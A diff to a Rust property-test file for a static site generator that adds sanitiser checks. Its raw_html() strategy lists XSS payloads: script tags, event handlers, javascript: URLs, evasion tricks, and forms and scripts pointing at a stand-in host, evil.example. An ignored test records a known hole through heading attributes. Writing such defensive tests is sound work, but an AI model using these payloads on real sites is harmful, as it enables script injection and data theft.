@@ -16,6 +16,8 @@
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
 mod common;
+#[path = "support/html.rs"]
+mod html;
 
 use common::{TestSite, item, snapshot};
 use portal::BuildError;
@@ -23,7 +25,7 @@ use portal::content::{front_matter, item as fm, item_url_path, source};
 use portal::markdown::{self, LinkContext};
 use portal::site::{encode_path, encode_path_ascii};
 use proptest::prelude::*;
-use proptest::test_runner::Config as ProptestConfig;
+use proptest::test_runner::{Config as ProptestConfig, FileFailurePersistence};
 
 // ---------------------------------------------------------------------------------------
 // Configuration
@@ -34,7 +36,18 @@ fn cases(default: u32) -> ProptestConfig {
         .ok()
         .and_then(|v| v.parse::<u32>().ok())
         .unwrap_or(default);
-    ProptestConfig::with_cases(n)
+    config(n)
+}
+
+/// `n` cases; a failing input is saved beside this file (`properties.proptest-regressions`)
+/// and replayed first on the next run.
+fn config(n: u32) -> ProptestConfig {
+    ProptestConfig {
+        failure_persistence: Some(Box::new(FileFailurePersistence::WithSource(
+            "proptest-regressions",
+        ))),
+        ..ProptestConfig::with_cases(n)
+    }
 }
 
 /// For properties that build a whole site per case: a hundredth of `PROPTEST_CASES`, at
@@ -44,7 +57,7 @@ fn site_cases(default: u32) -> ProptestConfig {
         .ok()
         .and_then(|v| v.parse::<u32>().ok())
         .map_or(default, |n| (n / 100).max(default));
-    ProptestConfig::with_cases(n)
+    config(n)
 }
 
 // ---------------------------------------------------------------------------------------
@@ -270,10 +283,50 @@ fn markdown_piece(rooted: bool) -> impl Strategy<Value = String> {
         1 => Just("|a|b|\n|-|-|\n|1|2|\n\n".to_string()),
         1 => Just("~~删~~[^1]\n\n[^1]: 注\n\n".to_string()),
         1 => Just("```\n[x](../../../etc/passwd)\n```\n".to_string()),
-        1 => Just("<script>alert(1)</script>\n".to_string()),
+        2 => raw_html(),
         1 => Just("## 标题 {#../../x}\n".to_string()),
         1 => Just("> 引用\n> - 列表\n".to_string()),
         2 => fragment(),
+    ]
+}
+
+/// Raw HTML as pasted from Word or written by an attacker.
+fn raw_html() -> impl Strategy<Value = String> {
+    prop_oneof![
+        prop::sample::select(vec![
+            "<script>alert(1)</script>\n",
+            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+            "<img src=x onerror=alert(1)>",
+            "<img src=\"x.png\" alt=\"图\" ONERROR = 'alert(1)'>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<a href=\" java&#x09;script&colon;alert(1)\">x</a>",
+            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+            "<iframe src=\"https://evil.example/\"></iframe>",
+            "<style>body{display:none}</style>",
+            "<svg onload=alert(1)><circle r=1 /></svg>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+            "<object data=x.swf></object><embed src=x.swf>",
+            "<form action=https://evil.example/><input name=p></form>",
+            "<div onclick=\"alert(1)\">点击</div>",
+            "<scr<script>ipt>alert(1)</scr</script>ipt>",
+            "<!-- <script>alert(1)</script> -->",
+            "<![CDATA[<script>alert(1)</script>]]>",
+            "<p class=MsoNormal><span style='font-family:宋体'>正文</span></p>",
+            "<table class=MsoNormalTable><tr><td>1</td></tr></table>",
+            "<sup>2</sup><sub>2</sub><u>u</u><br>",
+            "<details open ontoggle=alert(1)>",
+            "<base href=\"https://evil.example/\">",
+            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+            "<a href=x onmouseover=alert(1)>",
+            "</p><script>",
+            "<",
+            "<a",
+            "<img src=\"",
+        ])
+        .prop_map(String::from),
+        // Random tag soup around a handler.
+        ("[a-z]{1,8}", "on[a-z]{1,8}", chinese())
+            .prop_map(|(tag, on, text)| format!("<{tag} {on}=\"alert(1)\">{text}</{tag}>")),
     ]
 }
 
@@ -391,7 +444,9 @@ proptest! {
                 if !s.body.is_empty() {
                     prop_assert_eq!(s.body_line, line_count(before_body));
                 }
-                let yaml_at = text.find(s.yaml).unwrap_or(0);
+                // The YAML is the slice right after the first line.
+                let yaml_at = s.yaml.as_ptr() as usize - text.as_ptr() as usize;
+                prop_assert_eq!(yaml_at, text.find('\n').map_or(text.len(), |i| i + 1));
                 if !s.yaml.is_empty() {
                     prop_assert_eq!(line_count(&text[..yaml_at]), 2);
                 }
@@ -420,7 +475,11 @@ proptest! {
 
     /// Any YAML text: located pairs, or a Chinese error with a line inside the text.
     #[test]
-    fn parse_pairs_never_panics_and_errors_are_located(yaml in prop_oneof![yaml_text(), hostile_text()]) {
+    fn parse_pairs_never_panics_and_errors_are_located(raw in prop_oneof![yaml_text(), hostile_text()]) {
+        // Raw CRs never get here (the loader decodes first); YAML counts them as line
+        // breaks, so normalise as `decode` does before comparing lines.
+        let _ = portal::yaml::parse_pairs(&raw);
+        let yaml = raw.replace("\r\n", "\n").replace('\r', "\n");
         match portal::yaml::parse_pairs(&yaml) {
             Ok(pairs) => {
                 for (k, v) in &pairs.0 {
@@ -617,6 +676,27 @@ proptest! {
         for url in urls_in(&r.html) {
             prop_assert!(stays_under(&url, base), "href {url:?} leaves {base} in:\n{body}\n→\n{}", r.html);
         }
+        // The raw-HTML policy: nothing that can run code survives.
+        let dangers = html::dangers(&r.html);
+        prop_assert!(dangers.is_empty(), "{dangers:?} in:\n{body}\n→\n{}", r.html);
+    }
+
+    /// Heading attribute blocks (`## t {onclick=…}`) cannot add event handlers or styles.
+    #[test]
+    #[ignore = "raw HTML sanitising: pending (\"## t {onclick=alert(1)}\" → <h2 id=\"t\" onclick=\"alert(1)\">; bodies without raw HTML skip the sanitiser)"]
+    fn heading_attributes_cannot_add_event_handlers(
+        text in chinese(),
+        attr in prop::sample::select(vec!["onclick", "onmouseover", "ONFOCUS", "style", "autofocus onfocus"]),
+        value in prop::sample::select(vec!["alert(1)", "\"alert(1)\"", "position:fixed"]),
+    ) {
+        let body = format!("## 标{text} {{#h {attr}={value}}}\n");
+        let r = markdown::render(&body, &LinkContext { source: "zwdt/a.md", base_path: "/" });
+        let tags = html::start_tags(&r.html);
+        for t in &tags {
+            for (name, _) in &t.attrs {
+                prop_assert!(!name.starts_with("on") && name != "style", "{body:?} → {}", r.html);
+            }
+        }
     }
 
     /// Site-rooted links (`/…`) with `..` or `.` segments: a rewritten href must not climb
@@ -643,6 +723,23 @@ proptest! {
         prop_assert_eq!(r.problems.len(), 1);
         prop_assert!(!r.html.contains("href=\"/site/"));
     }
+}
+
+/// A link to `...md` (stem `..`, a hidden file) is a problem, not the URL `zwdt/../`
+/// (found by `markdown_render_never_panics_and_keeps_links_inside`).
+#[test]
+fn link_to_a_dot_stem_md_file_is_a_problem() {
+    let r = markdown::render(
+        "[x](...md)\n",
+        &LinkContext {
+            source: "zwdt/a.md",
+            base_path: "/site/",
+        },
+    );
+    for url in urls_in(&r.html) {
+        assert!(stays_under(&url, "/site/"), "{url}");
+    }
+    assert_eq!(r.problems.len(), 1);
 }
 
 // ---------------------------------------------------------------------------------------
@@ -708,13 +805,14 @@ proptest! {
             Ok(_) => {
                 prop_assert!(site.has("index.html"));
                 prop_assert!(site.has("zwdt/ok/index.html"));
-                // Front matter is escaped: a <script> in the output can only come from raw
-                // HTML in the body (see tests/hostile.rs for the sanitiser).
-                let body_has_raw_html = String::from_utf8_lossy(&file).contains('<');
-                if !body_has_raw_html {
-                    for (path, bytes) in snapshot(&site.public()) {
-                        let text = String::from_utf8_lossy(&bytes).to_lowercase();
-                        prop_assert!(!text.contains("<script"), "{}", path.display());
+                // Front matter is escaped and bodies are sanitised: no page can run code.
+                // (Heading attribute blocks are a known hole, pinned in
+                // `heading_attributes_cannot_add_event_handlers`.)
+                let heading_attrs = String::from_utf8_lossy(&file).contains(" {");
+                for (path, bytes) in snapshot(&site.public()) {
+                    if path.extension().is_some_and(|e| e == "html") && !heading_attrs {
+                        let dangers = html::dangers(&String::from_utf8_lossy(&bytes));
+                        prop_assert!(dangers.is_empty(), "{}: {dangers:?}", path.display());
                     }
                 }
             }
